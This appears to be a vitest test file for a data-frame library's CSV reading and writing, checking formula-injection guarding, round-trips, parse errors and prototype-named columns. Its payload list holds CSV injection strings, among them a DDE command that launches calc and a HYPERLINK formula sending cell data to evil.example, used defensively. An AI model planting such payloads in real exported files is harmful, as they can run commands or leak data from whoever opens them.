import { parse } from "csv-parse/sync";
import { createReadStream, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, test } from "vitest";
import { CsvReader } from "../../../src/frame/formats/csv-records.js";
import { guardFormula, unguardFormula } from "../../../src/frame/formats/formula.js";
import { frameFrom, frameFromCSV } from "../../../src/frame/index.js";
import { hostileFrame, seeded } from "./hostile-rows.js";

/** Cells that a spreadsheet runs as a formula. */
const formulas = [
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "\u00a0=1",
  "\u200b=1",
  "\ufeff=1",
  "\0=1",
  "'=1",
  "''=1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(1)",
  "=cmd|'/C calc'!A0",
  "|cmd",
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "a;=1",
  "a; =1",
  "a\t=1",
  "a\n=1",
  "a\r\n-1",
  "'a;=1",
  "a;'=1",
  ";\t\n;=1",
  "\ttext",
  "'\rtext",
];

/** Whether a spreadsheet would find a formula, at the beginning or where it takes a sign inside for the end of a cell. */
const runs = /(?:^|[;\t\r\n])[\s\p{Cc}\p{Cf}]*[=+\-@|\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u;

test.each(formulas)("no spreadsheet runs %j, and it comes back", async (payload) => {
  const frame = frameFrom([{ [payload]: payload, list: [payload], object: { [payload]: payload } }]);
  const grid = parse(frame.toCSV());
  expect(grid.flat().filter((cell) => runs.test(cell))).toEqual([]);
  const back = await frameFromCSV(frame.toCSV(), { columns: frame.schema });
  expect(back.objects()).toEqual(frame.objects());
});

test("typed numbers are no formulas, and texts that are none are not touched", () => {
  const frame = frameFrom([{ n: -5, r: -0.5, big: -9007199254740993n, t: "it's", d: "a-b=c; d", at: "a@b" }]);
  expect(frame.toCSV()).toBe("n,r,big,t,d,at\n-5,-0.5,-9007199254740993,it's,a-b=c; d,a@b\n");
});

test("what guards a text is taken away exactly", () => {
  const random = seeded(1);
  const signs = [..."''';=+-@|\t\r\n a\uff1d\u200b"];
  for (let count = 0; count < 50_000; count++) {
    const text = Array.from(
      { length: Math.floor(random() * 10) },
      () => signs[Math.floor(random() * signs.length)],
    ).join("");
    expect(unguardFormula(guardFormula(text))).toBe(text);
  }
});

test("a long text costs no more than its length", () => {
  const started = performance.now();
  for (const piece of ["\t", "'", ";\t", " ", "\n'"]) guardFormula(piece.repeat(1_000_000));
  expect(performance.now() - started).toBeLessThan(3000);
});

test("a strict parser gives the same grid", () => {
  const frame = hostileFrame(1000);
  const grid = parse(frame.toCSV({ safe: false }), {
    bom: true,
    cast: (field, { quoting }) => (field === "" && !quoting ? null : field),
  });
  expect(grid[0]).toEqual(frame.columnNames());
  for (const name of ["text", "toString", "hasOwnProperty"]) {
    const index = frame.columnNames().indexOf(name);
    expect(grid.slice(1).map((row) => row[index])).toEqual(frame.array(name));
  }
  expect(new Set(grid.map((row) => row.length))).toEqual(new Set([frame.numCols()]));
});

test("a missing cell is an empty field, an empty text is quoted", async () => {
  const frame = frameFrom([
    { a: null, b: "", c: "x" },
    { a: "", b: null, c: null },
  ]);
  expect(frame.toCSV()).toBe('a,b,c\n,"",x\n"",,\n');
  expect((await frameFromCSV(frame.toCSV())).objects()).toEqual(frame.objects());
});

test("toCSV() takes Arquero's options, and refuses others", () => {
  const frame = frameFrom([
    { a: 1, toString: "x", d: new Date(0) },
    { a: 2, toString: "y", d: null },
    { a: 3, toString: "z", d: null },
  ]);
  expect(frame.toCSV({ columns: ["toString", "a"], offset: 1, limit: 1, delimiter: "\t" })).toBe(
    "toString\ta\ny\t2\n",
  );
  expect(frame.toCSV({ header: false, limit: 1, format: { d: (date: Date) => `=${date.getTime()}` } })).toBe(
    "1,x,'=0\n",
  );
  expect(() => frame.toCSV({ columns: ["b"] })).toThrow("unknown column: b");
  expect(() => frame.toCSV({ unsafe: true } as object)).toThrow("unknown option of toCSV(): unsafe");
});

test("undeclared columns are more than text only where they can be nothing else", async () => {
  const csv = [
    "n,r,z,long,version,flag,seen,day,list,text,nan",
    '1,1.5,007,12345678901234567890,1.10,true,2026-01-02T03:04:05Z,2026-01-02,"[""a"",null]","[1]",NaN',
    "-2,-0,1,1,2.0,false,2026-01-02T03:04:05.678+02:00,2026-01-03,[],[],1",
  ].join("\r\n");
  const frame = await frameFromCSV(csv);
  expect(frame.schema.map(({ name, type }) => `${name} ${type}`)).toEqual([
    "n long",
    "r real",
    "z string",
    "long string",
    "version string",
    "flag bool",
    "seen datetime",
    "day string",
    "list dynamic",
    "text string",
    "nan real",
  ]);
  expect(frame.object(1)).toMatchObject({ r: -0, seen: new Date("2026-01-02T01:04:05.678Z"), list: [] });
  expect((await frameFromCSV("t\n'-5\n")).get("t")).toBe("-5");
  expect((await frameFromCSV("t\n'-5\n", { safe: false })).get("t")).toBe("'-5");
});

test("the columns of toString, constructor and __proto__ hold what the file holds", async () => {
  const frame = await frameFromCSV("host,toString,constructor,__proto__,\n1,2,3,4,5\n");
  expect(frame.columnNames()).toEqual(["host", "toString", "constructor", "(__proto__)", "(unnamed)"]);
  expect(frame.columnNames().map((name) => frame.get(name))).toEqual([1, 2, 3, 4, 5]);
  expect(frame.info.notes[0]).toContain('column "__proto__" is called (__proto__) here');
  const again = await frameFromCSV("__proto__,\n1,2\n", {
    columns: [{ name: "(__proto__)", type: "string" }],
  });
  expect(again.objects()).toEqual([{ "(__proto__)": "1" }]);
});

test.each([
  ["a,b,c\n1,2,3\n\n4,5,6,7\n", "invalid CSV: line 4 has 4 fields instead of 3"],
  ['a,b\n"x\ny",1\n2\n', "invalid CSV: line 4 has 1 fields instead of 2"],
  ['a\n"x', "invalid CSV: the quote that opens in the record of line 2 is never closed"],
  ['a\n"x"y\n', "invalid CSV: on line 2 text follows a quote that closes a field"],
  ["a,b,a\n", "invalid CSV: two columns are called a; rename one of them"],
  ["__proto__,(__proto__)\n", "invalid CSV: two columns are called (__proto__)"],
])("%j is refused", async (csv, message) => {
  await expect(frameFromCSV(csv)).rejects.toThrow(message);
  await expect(frameFromCSV(csv)).rejects.toMatchObject({ code: "INVALID_INPUT" });
});

test("a value that is not of its declared type is refused by row and column", async () => {
  const columns = [{ name: "port", type: "long" }] as const;
  await expect(frameFromCSV("port\n443\nhttps\n", { columns })).rejects.toThrow(
    'invalid CSV: row 2 of column port is "https", which is no long; mend the value or declare the column as string',
  );
  await expect(frameFromCSV("prot\n443\n", { columns })).rejects.toThrow(
    "invalid CSV: it has no column port; did you mean prot?",
  );
});

test("other programs' ways are understood: line ends, byte order mark, quotes in a field, quoted nothing", async () => {
  const columns = [
    { name: "a", type: "string" },
    { name: "n", type: "long" },
  ] as const;
  for (const end of ["\n", "\r\n", "\r"]) {
    const frame = await frameFromCSV(`\ufeffa;n${end}5" disk;"5"${end}"x";""${end}`, {
      columns,
      delimiter: ";",
    });
    expect(frame.objects()).toEqual([
      { a: '5" disk', n: 5 },
      { a: "x", n: null },
    ]);
  }
});

test("a text in pieces gives the same records as in one", () => {
  const csv = hostileFrame(40).toCSV();
  const whole = new CsvReader(",");
  const records = [...whole.read(csv), ...whole.end()];
  const pieces = new CsvReader(",");
  expect([...csv].flatMap((piece) => [...pieces.read(piece)]).concat([...pieces.end()])).toEqual(records);
});

test("a file is read as it streams, and what cannot be read is said", async () => {
  const directory = mkdtempSync(join(tmpdir(), "frame-"));
  const path = join(directory, "rows.csv");
  const frame = hostileFrame(3000);
  writeFileSync(path, `\ufeff${frame.toCSV()}`);
  expect(createReadStream(path).readableHighWaterMark).toBeLessThan(frame.toCSV().length);
  const back = await frameFromCSV({ path }, { columns: frame.schema, name: "rows" });
  expect(back.array("text")).toEqual(frame.array("text"));
  expect(back.meta.name).toBe("rows");
  await expect(frameFromCSV({ path: join(directory, "none.csv") })).rejects.toMatchObject({
    code: "FILE_FAILED",
    message: expect.stringMatching(/^cannot read .*none\.csv: there is no such file$/) as string,
  });
  await expect(frameFromCSV({ path: directory })).rejects.toMatchObject({ code: "FILE_FAILED" });
  writeFileSync(path, Buffer.from("a\nGr\xfc\xdfe\n", "latin1"));
  await expect(frameFromCSV({ path })).rejects.toThrow("invalid CSV: rows.csv is not UTF-8");
});

test("wrong options and sources are refused", async () => {
  await expect(frameFromCSV("a\n", { colums: [] } as object)).rejects.toThrow("did you mean columns?");
  await expect(frameFromCSV("a\n", { delimiter: "::" })).rejects.toThrow("invalid delimiter: ::");
  expect(() => frameFrom([{ a: 1 }]).toCSV({ delimiter: '"' })).toThrow('invalid delimiter: "');
  await expect(frameFromCSV(Buffer.from("a") as unknown as string)).rejects.toThrow(
    "invalid CSV: it is neither",
  );
});
